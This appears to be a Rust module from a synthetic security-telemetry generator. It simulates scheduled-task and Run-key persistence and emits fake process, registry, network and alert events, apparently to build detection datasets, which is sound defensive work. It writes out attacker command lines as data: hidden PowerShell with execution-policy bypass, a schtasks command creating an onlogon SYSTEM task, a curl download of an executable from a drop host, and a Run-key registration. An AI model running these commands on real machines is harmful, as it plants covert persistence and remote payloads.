//! Persistence scenarios: scheduled task, Run key.

use super::{C2, Run, acx, ensure_session};
use crate::GenerateError;
use crate::alerts::{Alert, Evidence, Service, raise};
use crate::catalog::Bin;
use crate::ctx::{Acct, MIN, Role, SEC, Spawn};
use crate::devevents::{Ev, event};
use crate::files::{FileOp, RegOp, file, registry};
use crate::network::{Conn, net};

type R = Result<(), GenerateError>;

pub fn scheduled_task(r: &mut Run) -> R {
    let t = r.at();
    let mut dx = r.dx(r.p.device)?;
    let explorer = ensure_session(&mut dx, t)?;
    let ps = dx.spawn(
        explorer,
        Bin::Powershell,
        "powershell.exe -nop -w hidden",
        t,
        Spawn {
            life: Some(20 * MIN),
            integrity: Some("High"),
            elevation: Some("TokenElevationTypeFull"),
            ..Default::default()
        },
    )?;
    let t0 = dx.st.procs[ps].create;
    file(
        &mut dx,
        ps,
        t0 + 5 * SEC,
        &FileOp {
            action: "FileCreated",
            path: r"C:\ProgramData\WinUpdate\check.ps1",
            size: 3_871,
            ..Default::default()
        },
    )?;
    let task = r"\Microsoft\Windows\Maintenance\WinUpdateCheck";
    let action = r"powershell.exe -w hidden -ep bypass -f C:\ProgramData\WinUpdate\check.ps1";
    let line = format!(
        r#""C:\Windows\system32\schtasks.exe" /create /tn "{task}" /tr "{action}" /sc onlogon /ru SYSTEM /rl HIGHEST /f"#
    );
    let st = dx.spawn(ps, Bin::Schtasks, &line, t0 + 20 * SEC, Spawn::default())?;
    let t1 = dx.st.procs[st].create;
    let Some(sched) = dx.find(Role::SvcSchedule) else {
        return Ok(());
    };
    let content = r#"<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Triggers>\r\n    <LogonTrigger><Enabled>true</Enabled></LogonTrigger>\r\n  </Triggers>\r\n  <Principals>\r\n    <Principal id=\"Author\"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal>\r\n  </Principals>\r\n  <Actions Context=\"Author\">\r\n    <Exec><Command>powershell.exe</Command><Arguments>-w hidden -ep bypass -f C:\\ProgramData\\WinUpdate\\check.ps1</Arguments></Exec>\r\n  </Actions>\r\n</Task>"#;
    let (uname, sid) = match dx.st.procs[ps].acct {
        Acct::User(i) => dx
            .fleet
            .users
            .get(i as usize)
            .map(|u| (u.sam.clone(), u.sid.clone()))
            .unwrap_or_default(),
        _ => (String::from("SYSTEM"), String::from("S-1-5-18")),
    };
    let add = format!(
        r#"{{"TaskName":"{}","TaskContent":"{content}","SubjectUserSid":"{sid}","SubjectUserName":"{uname}","SubjectDomainName":"{}","SubjectLogonId":"0x{:x}"}}"#,
        task.replace('\\', "\\\\"),
        dx.fleet.tenant.netbios,
        dx.st.procs[ps].logon_id
    );
    event(
        &mut dx,
        sched,
        t1 + SEC,
        &Ev {
            action: "ScheduledTaskCreated",
            additional: Some(&add),
            ..Default::default()
        },
    )?;
    let guid = crate::fleet::guid(dx.rng).to_ascii_uppercase();
    let tree = format!(
        r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree{task}"
    );
    registry(
        &mut dx,
        sched,
        t1 + SEC,
        &RegOp {
            action: "RegistryKeyCreated",
            key: &tree,
            value_type: "",
            name: "",
            data: "",
            previous_data: None,
        },
    )?;
    let id = format!("{{{guid}}}");
    registry(
        &mut dx,
        sched,
        t1 + SEC,
        &RegOp {
            action: "RegistryValueSet",
            key: &tree,
            value_type: "String",
            name: "Id",
            data: &id,
            previous_data: None,
        },
    )?;
    let tasks = format!(
        r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tasks\{{{guid}}}"
    );
    registry(
        &mut dx,
        sched,
        t1 + SEC,
        &RegOp {
            action: "RegistryValueSet",
            key: &tasks,
            value_type: "String",
            name: "Path",
            data: task,
            previous_data: None,
        },
    )?;
    // The task fires at the next logon (an unlock later in the day stands in for it).
    let run = dx.spawn(
        sched,
        Bin::Powershell,
        action,
        t1 + 2 * 3600 * SEC,
        Spawn {
            acct: Some(Acct::System),
            integrity: Some("System"),
            elevation: Some("TokenElevationTypeDefault"),
            life: Some(10 * MIN),
            ..Default::default()
        },
    )?;
    let t2 = dx.st.procs[run].create;
    let conn = Conn {
        action: "ConnectionSuccess",
        remote_ip: C2.1,
        remote_port: 443,
        url: C2.0,
        local_port: 53_001,
        protocol: "Tcp",
        additional: "",
    };
    net(&mut dx, run, t2 + 3 * SEC, &conn)?;
    let dev = dx.dev;
    let (a, b) = (dx.st.procs[st].clone(), dx.st.procs[run].clone());
    let mut cx = acx!(dx);
    raise(
        &mut cx,
        &Alert {
            title: "Suspicious Task Scheduler activity",
            category: "Persistence",
            severity: "Medium",
            service: Service::Endpoint,
            techniques: &["Scheduled Task (T1053.005)"],
            t: t1,
        },
        &[
            Evidence::Machine(dev),
            Evidence::Process(dev, &a),
            Evidence::Process(dev, &b),
        ],
    )?;
    Ok(())
}

pub fn run_key(r: &mut Run) -> R {
    let t = r.at();
    let mut dx = r.dx(r.p.device)?;
    let explorer = ensure_session(&mut dx, t)?;
    let acct = dx.st.procs[explorer].acct;
    let profile = dx.user_profile(acct).to_string();
    let sid = match acct {
        Acct::User(i) => dx
            .fleet
            .users
            .get(i as usize)
            .map(|u| u.sid.clone())
            .unwrap_or_default(),
        _ => String::from("S-1-5-18"),
    };
    let exe = Bin::Updater.path(&profile);
    let cmd = dx.spawn(
        explorer,
        Bin::Cmd,
        r#""C:\Windows\system32\cmd.exe" "#,
        t,
        Spawn {
            life: Some(10 * MIN),
            ..Default::default()
        },
    )?;
    let t0 = dx.st.procs[cmd].create;
    let h = dx.cat.hashes(Bin::Updater).clone();
    let url = format!("https://{}/d/updater.exe", super::DROP.0);
    let curl = dx.spawn(
        cmd,
        Bin::Curl,
        &format!("curl  -s -o \"{exe}\" {url}"),
        t0 + 5 * SEC,
        Spawn::default(),
    )?;
    file(
        &mut dx,
        curl,
        t0 + 7 * SEC,
        &FileOp {
            action: "FileCreated",
            path: &exe,
            sha1: Some(&h.sha1),
            sha256: Some(&h.sha256),
            md5: Some(&h.md5),
            size: Bin::Updater.def().size,
            origin_url: Some(&url),
            ..Default::default()
        },
    )?;
    let line = format!(
        r#"reg  add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v "LuminaUpdater" /t REG_SZ /d "{exe}" /f"#
    );
    let rg = dx.spawn(cmd, Bin::Reg, &line, t0 + 20 * SEC, Spawn::default())?;
    let t1 = dx.st.procs[rg].create;
    let key = format!(r"HKEY_CURRENT_USER\{sid}\Software\Microsoft\Windows\CurrentVersion\Run");
    registry(
        &mut dx,
        rg,
        t1 + SEC,
        &RegOp {
            action: "RegistryValueSet",
            key: &key,
            value_type: "String",
            name: "LuminaUpdater",
            data: &exe,
            previous_data: None,
        },
    )?;
    // The next logon starts it from explorer.
    let up = dx.spawn(
        explorer,
        Bin::Updater,
        &format!("\"{exe}\" /silent"),
        t1 + 3 * 3600 * SEC,
        Spawn {
            life: Some(3600 * SEC),
            ..Default::default()
        },
    )?;
    let t2 = dx.st.procs[up].create;
    super::exec::beacon(&mut dx, up, t2, C2.0, C2.1, 443, 5)?;
    let dev = dx.dev;
    let (a, b) = (dx.st.procs[rg].clone(), dx.st.procs[up].clone());
    let mut cx = acx!(dx);
    raise(
        &mut cx,
        &Alert {
            title: "Anomaly detected in ASEP registry",
            category: "Persistence",
            severity: "Medium",
            service: Service::Endpoint,
            techniques: &["Registry Run Keys / Startup Folder (T1547.001)"],
            t: t1,
        },
        &[
            Evidence::Machine(dev),
            Evidence::Process(dev, &a),
            Evidence::Registry {
                dev,
                key: &key,
                name: "LuminaUpdater",
                data: &exe,
            },
            Evidence::Process(dev, &b),
        ],
    )?;
    Ok(())
}
